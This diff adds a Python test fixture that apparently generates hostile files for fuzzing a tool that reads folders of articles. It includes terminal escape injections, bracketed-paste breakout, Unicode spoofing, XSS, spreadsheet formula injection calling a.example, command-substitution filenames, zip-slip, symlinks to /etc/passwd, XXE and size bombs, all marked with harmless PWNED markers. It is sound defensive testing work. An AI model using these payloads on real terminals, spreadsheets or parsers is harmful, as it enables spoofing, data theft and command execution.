@@ -1,0 +1,142 @@
+"""Small hostile files of our own, made when they are needed: what an attacker could put into a folder of articles.
+
+Each payload that a terminal or a program would obey has PWNED in it, so that a leak is told from what is ours.
+"""
+
+from __future__ import annotations
+
+import io
+import os
+import zipfile
+from pathlib import Path
+
+WORD = "zzhostile"
+"""In the text of every item that can be read."""
+BODY = f"\n\nThe {WORD} truce at the harbour was kept on Monday, Maria Lopez said.\n"
+BEL, ESC = "\x07", "\x1b"
+_SELECTED = "".join(chr(0xE0100 + byte) for byte in b"PWNED")
+_TAGGED = "".join(chr(0xE0000 + byte) for byte in b"PWNED")
+_FORMS = '=HYPERLINK("http://a.example/?"&A1,"PWNED")'
+
+_TEXTS: dict[str, str] = {
+    # what a terminal obeys
+    "osc8.txt": f"{ESC}]8;;http://a.example/PWNED{ESC}\\click{ESC}]8;;{ESC}\\",
+    "osc8-file.txt": f"{ESC}]8;;file:///etc/passwd?PWNED{BEL}click{ESC}]8;;{BEL}",
+    "osc52.txt": f"{ESC}]52;c;UFdORUQ={BEL}PWNED",
+    "osc1337.txt": f"{ESC}]1337;File=inline=1:PWNED{BEL}",
+    "osc-777.txt": f"{ESC}]777;notify;PWNED;now{BEL}{ESC}]9;PWNED{BEL}",
+    "dcs-sixel.txt": f"{ESC}Pq#0;2;0;0;0PWNED{ESC}\\",
+    "dcs-setting.txt": f'{ESC}P$q"p;PWNED{ESC}\\{ESC}P+q544e;PWNED{ESC}\\',
+    "apc-kitty.txt": f"{ESC}_Ga=T,f=24,s=1,v=1;PWNED{ESC}\\",
+    "pm-sos.txt": f"{ESC}^PWNED{ESC}\\{ESC}XPWNED{ESC}\\",
+    "screen-title.txt": f"{ESC}kPWNED{ESC}\\",
+    "paste-end.txt": f"{ESC}[201~; touch PWNED\r\n{ESC}[200~",
+    "reports.txt": f"{ESC}[6n{ESC}[c{ESC}[>q{ESC}[21t{ESC}[?2004h{ESC}[?1049lPWNED",
+    "c1-csi.txt": "\x9b31337;1HPWNED \x9d0;PWNED\x9c \x90qPWNED\x9c",
+    "half-a-sequence.txt": f"PWNED{ESC}[38;2;1" + "\n" * 3 + f"{ESC}]0;PWNED and no end",
+    "carriage.txt": "an honest line\rPWNED          \r\x08\x08\x08PWNED\x0b\x0cPWNED",
+    # what deceives the eye
+    "isolates.txt": "\u2066PWNED\u2069 \u2067PWNED \u202eDENWP\u202c \u061c\u200e\u200f",
+    "tags.txt": f"a flag\U0001f3f4{_TAGGED}\U000e007f and words{_TAGGED}",
+    "selectors.txt": f"an emoji \U0001f600{_SELECTED} and a letter a{_SELECTED}",
+    "zalgo.txt": "P" + "\u0310\u0489\u0336" * 3_000 + "WNED",
+    "joiners.txt": "PW\u200dNE\u200cD \u2060\ufeff\u00ad\u180e\u3164\uffa0",
+    "rtl-title.txt": "\u05d4\u05e4\u05e1\u05e7\u05ea \u05d0\u05e9 PWNED.txt \u202b\u05d0\u05d1\n\nAnd on it went.",
+    # front matter and HTML
+    "yaml-escapes.md": '---\ntitle: "\\e]0;PWNED\\a \\x9b31m \\u202e"\ndate: "\\u001b[2J2024"\n---\n',
+    "yaml-aliases.md": "---\na: &a [x,x,x,x,x,x,x,x]\n"
+    + "".join(f"{b}: &{b} [{','.join(['*' + a] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
+    + "title: *i\n---\n",
+    "toml-front.md": '+++\ntitle = "\\u001b]0;PWNED\\u0007"\na' + ".b" * 5_000 + " = 1\n+++\n",
+    "html-meta.html": "<html lang='&#27;[31m'><head><title>&#27;]0;PWNED&#7; &#x9b;31m</title>"
+    "<meta name='date' content='&#x1b;[2J2024-01-01'><meta property='og:title' content='&#8238;PWNED'></head><p>text",
+    "html-entities.html": "<p>&#27;[31m &#x1b;]0;PWNED&#x07; &#155;31m &#x9d;PWNED&#x9c; &#0; &#xD800; &#8294;x",
+    "html-nested.html": "<div><b><i>" * 35_000,
+    "html-tables.html": "<table><tr><td>" * 20_000,
+    "html-active.html": "<script>touch('PWNED')</script><img src=x onerror='PWNED'><a href='javascript:PWNED'>a</a>"
+    "<a href='data:text/html,PWNED'>b</a><svg onload='PWNED'/><iframe src='http://a.example'></iframe>",
+    "utf7.html": "<meta charset='utf-7'><p>+AGwAdA-script+AGcAdA- +ABs-]0;PWNED+AAc-",
+    # bombs of size and shape
+    "wide-table.md": "|" + "a|" * 3_000 + "\n|" + "-|" * 3_000 + "\n" + ("|" + "b|" * 3_000 + "\n") * 4,
+    "deep-quotes.md": ">" * 20_000 + " PWNED\n" + "* " * 20_000 + "\n",
+    "brackets.md": "[" * 9_000 + "](" * 3_000 + "`" * 6_001 + "*_" * 6_000,
+    "line-ends.txt": "a\n" + "\n" * 300_000,
+    "long-title.txt": "Truce " * 15_000 + "\n\nText.",
+    "dots.txt": "Mr. " * 6_000 + "1,234," * 6_000 + "a." * 6_000,
+    "quotes.txt": '"' * 8_000 + "“" * 8_000 + "'a" * 20_000,
+    "addresses.txt": "a." * 20_000 + "http://" * 10_000 + "www." * 10_000,
+    "names.txt": "Mc" * 5_000 + " " + "A-" * 5_000 + " von der" * 3_000,
+    "dates.txt": "3 May 2024 to " * 1_500 + "1/1/1/" * 4_000 + "2024-13-45T99:99 " * 1_000,
+    # what speaks to another program that the text goes on to
+    "formula.txt": f"{_FORMS}\n\n+cmd|' /C PWNED'!A0\n\n@SUM(1)\n\n-2+3",
+    "html-title.txt": "</title><script>PWNED()</script><img src=x onerror=PWNED> \"' &amp; ]]> <!--",
+    "markdown-title.txt": "[PWNED](javascript:PWNED) ![x](http://a.example/PWNED.png) | `a` | <b>PWNED</b>",
+    "rich-title.txt": "[@click=app.quit]PWNED[/] [link=http://a.example]PWNED[/link] [bold red]x",
+    "json-title.txt": '"}\\u001b]0;PWNED\\u0007\n\n{"document": "PWNED"}',
+}
+_BYTES: dict[str, bytes] = {
+    "overlong.txt": b"\xc0\x9b]0;PWNED\xc0\x87 \xe0\x80\x9b[31m \xf0\x80\x80\x9b",
+    "surrogates.txt": b"\xed\xa0\x80PWNED\xed\xb0\x80 \xf4\x90\x80\x80 \xff\xfe",
+    "utf16-escapes.txt": "\ufeff\x1b]0;PWNED\x07 \u202e".encode("utf-16-le") + BODY.encode("utf-16-le"),
+    "raw-c1.txt": b"\x9b31337;1H \x9d0;PWNED\x9c caf\xe9 " * 30,
+    "late-nul.txt": b"words " * 3_000 + b"\x00\x1b]0;PWNED\x07",
+    "looped.pdf": b"%PDF-1.4\n1 0 obj<</Type/Pages/Kids[1 0 R]/Parent 1 0 R>>endobj\ntrailer<</Root 1 0 R/Prev 9>>",
+    "pdf-as.txt": b"%PDF-1.4\n1 0 obj<</Kids[1 0 R]>>endobj\x00\xff\n",
+}
+_NAMES: tuple[bytes, ...] = (
+    b"new\nline PWNED.txt",
+    b"esc-\x1b]0;PWNED\x07.txt",
+    b"c1-\xc2\x9b31mPWNED.txt",
+    b"--help PWNED.txt",
+    b"-o PWNED.md",
+    b"$(touch PWNED)`touch PWNED`.txt",
+    b"raw-\xff\x9bPWNED.txt",
+    "сеasefire.txt".encode(),  # Cyrillic letters that look Latin
+    b"ceasefire.txt",
+    "bidi-\u202etxt.DENWP.txt".encode(),
+    "tags-\U000e0050.txt".encode(),
+    b"Case.txt",
+    b"case.txt",
+    b"[red]PWNED[/] [@click=app.quit]x.txt",
+    "z\u0310\u0310\u0310\u0310\u0310\u0310\u0310\u0310\u0310\u0310\u0310.txt".encode(),
+)
+
+
+def make(folder: Path) -> list[bytes]:
+    """Writes all items into a folder and gives their names, as the system has them."""
+    folder.mkdir()
+    names: list[bytes] = []
+    place = os.fsencode(folder)
+
+    def write(name: bytes, data: bytes) -> None:
+        try:
+            with open(place + b"/" + name, "xb") as file:
+                file.write(data)
+        except OSError:  # the file system refuses the name, or has it in other letters
+            return
+        names.append(name)
+
+    for title, text in _TEXTS.items():
+        write(title.encode(), (text + BODY).encode("utf-8", "surrogatepass"))
+    for title, data in _BYTES.items():
+        write(title.encode(), data if title.startswith("utf16") else data + BODY.encode())
+    for name in _NAMES:
+        write(name, b"A headline of some words" + BODY.encode())
+    for title in ("slip.zip", "outside.epub", "entity.docx", "slip.txt"):
+        write(title.encode(), _archive())
+    return names
+
+
+def _archive() -> bytes:
+    """An archive with a way out, a link, and a document that asks for files and pages of others."""
+    made = io.BytesIO()
+    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("../../PWNED", "PWNED")
+        link = zipfile.ZipInfo("link")
+        link.external_attr = 0o120777 << 16
+        archive.writestr(link, "/etc/passwd")
+        entity = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a href="http://a.example/PWNED">&x;</a>'
+        archive.writestr("word/document.xml", entity)
+        archive.writestr("OEBPS/content.opf", entity)
+        archive.writestr("zeros", bytes(1 << 20))
+    return made.getvalue()
